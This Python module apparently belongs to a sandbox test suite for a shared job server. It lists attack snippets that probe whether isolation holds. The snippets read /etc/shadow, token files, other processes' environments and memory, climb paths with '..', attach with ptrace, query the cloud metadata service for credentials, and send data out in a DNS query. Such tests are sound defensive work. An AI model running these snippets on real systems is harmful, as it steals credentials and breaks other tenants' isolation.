"""Attacks on what others have: files, environments, processes, the network."""

from __future__ import annotations

from .attack import LOCKED, NAMESPACES, Attack

_FILES = "own view of files"
_PROCESSES = "own process namespace, or Landlock"
_NETWORK = "no network"

_READ = """
for path in given[{0!r}]:
    try:
        print(open(path, "rb").read()[:2000], flush=True)
    except OSError as error:
        print(path, error, file=sys.stderr)
"""

ATTACKS = (
    Attack(
        "passwords",
        "read the machine's password hashes",
        "text = open('/etc/shadow').read()\nassert ':' in text\ngot('/etc/shadow')",
        _FILES,
        root=True,
    ),
    Attack("homes", "read a file in another home", _READ.format("home"), _FILES, seen="secret"),
    Attack("token-file", "read the server's token file", _READ.format("tokens"), _FILES, seen="secret"),
    Attack(
        "store-folder", "read what other jobs left in the object store", _READ.format("store"), _FILES, seen="secret"
    ),
    Attack("other-jobs-folder", "read another running job's files", _READ.format("job"), _FILES, seen="secret"),
    Attack(
        "by-process-root",
        "read the same past the sandbox, by other processes' roots",
        """
for pid in filter(str.isdigit, os.listdir("/proc")):
    for path in given["home"] + given["tokens"] + given["job"]:
        try:
            print(open(f"/proc/{pid}/root{path}", "rb").read()[:2000], flush=True)
        except OSError as error:
            print(error, file=sys.stderr)
""",
        _PROCESSES,
        seen="secret",
    ),
    Attack(
        "dot-dot",
        "climb out of its folder with ..",
        """
for depth in range(12):
    for path in given["home"] + given["job"]:
        for place in (os.getcwd(), "/proc/self/cwd", "/tmp"):
            try:
                print(open(place + "/.." * depth + path, "rb").read()[:2000], flush=True)
            except OSError as error:
                print(error, file=sys.stderr)
""",
        _FILES,
        seen="secret",
    ),
    Attack(
        "environments",
        "read the environment of the server and of other jobs",
        """
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        print(open(f"/proc/{pid}/environ", "rb").read(), flush=True)
    except OSError as error:
        print(error, file=sys.stderr)
""",
        _PROCESSES,
        seen="secret",
    ),
    Attack(
        "write-outside",
        "write into the machine's folders and into the store",
        """
def write(folder):
    path = f"{folder}/trainjob-attack-{os.getpid()}"
    with open(path, "w") as file:
        file.write("x")
    os.unlink(path)
    got(path)
try_each([*given["folders"], "/usr/lib", "/etc", "/root"], write)
""",
        _FILES,
    ),
    Attack(
        "metadata-outside",
        "open up files and folders that it can't read, or close them to their owner",
        """
def change(path):
    os.chmod(path, 0o700 if path in given["folders"] else 0o600)
    got(path)
try_each([*given["home"], *given["tokens"], *given["store"], *given["folders"]], change)
""",
        _FILES,
        claimed=NAMESPACES,
    ),
    Attack(
        "forge-log",
        "lay a segment into another job's log",
        """
with open(f"{os.path.dirname(given['store'][0])}/{0:020d}", "w") as file:
    file.write("forged")
os.unlink(file.name)
got("a segment of another job's log")
""",
        _FILES,
    ),
    Attack(
        "replace-runtime",
        "change the interpreter that other jobs run in",
        """
import ipykernel
path = os.path.join(os.path.dirname(ipykernel.__file__), f"attack-{os.getpid()}.py")
open(path, "w").close()
os.unlink(path)
got(path)
""",
        _FILES,
        root=True,
    ),
    Attack(
        "ptrace",
        "attach to another job's process",
        """
for pid in given["victims"]:
    if call(101, 117, ctypes.c_long(16), ctypes.c_long(pid), ctypes.c_long(0), ctypes.c_long(0)) == 0:
        os.waitpid(pid, 0x40000000)
        call(101, 117, ctypes.c_long(17), ctypes.c_long(pid), ctypes.c_long(0), ctypes.c_long(0))
        got(f"attached to {pid}")
""",
        "filter of system calls, own process namespace",
    ),
    Attack(
        "read-memory",
        "read another job's memory",
        """
def peek(pid):
    for line in open(f"/proc/{pid}/maps"):
        if " r" in line:
            break
    with open(f"/proc/{pid}/mem", "rb") as file:
        file.seek(int(line.split("-")[0], 16))
        got(file.read(4))
try_each(given["victims"], peek)
""",
        _PROCESSES,
    ),
    Attack(
        "signal",
        "stop another job's process",
        """
def stop(pid):
    os.kill(pid, signal.SIGCONT)
    got(f"a signal to {pid}")
try_each(given["victims"], stop)
""",
        _PROCESSES,
    ),
    Attack(
        "loopback",
        "talk to a service on the machine's loopback",
        """
def talk(place):
    with socket.create_connection(place, timeout=3) as s:
        print(s.recv(200), flush=True)
try_each(map(tuple, given["loopback"]), talk)
""",
        _NETWORK,
        seen="secret",
        network=True,
    ),
    Attack(
        "host",
        "talk to the machine by its address",
        """
def talk(place):
    with socket.create_connection(place, timeout=3) as s:
        print(s.recv(200), flush=True)
try_each(map(tuple, given["host"]), talk)
""",
        _NETWORK,
        seen="secret",
        network=True,
    ),
    Attack(
        "metadata",
        "ask the cloud's metadata service for credentials",
        """
with socket.create_connection(tuple(given["metadata"]), timeout=3) as s:
    s.sendall(b"GET /latest/meta-data/ HTTP/1.0\\r\\n\\r\\n")
    print(s.recv(2000), flush=True)
""",
        _NETWORK,
        seen="secret",
        network=True,
    ),
    Attack(
        "dns",
        "send data out in a question to a name server",
        """
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(3)
    question = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6) + b"\\x04data\\x03tld\\x00\\x00\\x10\\x00\\x01"
    s.sendto(question, tuple(given["dns"]))
    print(s.recv(2000), flush=True)
""",
        _NETWORK,
        seen="secret",
        network=True,
    ),
    Attack(
        "abstract-socket",
        "talk to a service on an abstract socket, which no folder guards",
        """
with socket.socket(socket.AF_UNIX) as s:
    s.settimeout(3)
    s.connect("\\0" + given["abstract"])
    print(s.recv(200), flush=True)
""",
        "own network namespace, or Landlock",
        seen="secret",
        network=True,
    ),
    Attack(
        "path-socket",
        "talk to a service on a socket in a folder",
        """
with socket.socket(socket.AF_UNIX) as s:
    s.settimeout(3)
    s.connect(given["socket"])
    print(s.recv(200), flush=True)
""",
        _FILES,
        seen="secret",
        claimed=NAMESPACES,
    ),
    Attack(
        "listen",
        "offer a service to the machine",
        """
s = socket.create_server(("127.0.0.1", 0))
here = os.stat("/proc/self/ns/net").st_ino
assert here == given["network"], "in a network of its own"
got(f"port {s.getsockname()[1]} of the machine")
""",
        _NETWORK,
        network=True,
    ),
    Attack(
        "semaphores",
        "take another's System V semaphores",
        """
made = call(64, 190, ctypes.c_int(given["semaphore"]), ctypes.c_int(1), ctypes.c_int(0))
got(f"semaphore {made}")
""",
        "own IPC namespace",
        claimed=NAMESPACES,
    ),
    Attack(
        "server-process",
        "signal the server",
        "os.kill(given['server'], 0)\ngot('the server')",
        _PROCESSES,
        claimed=LOCKED,
    ),
)
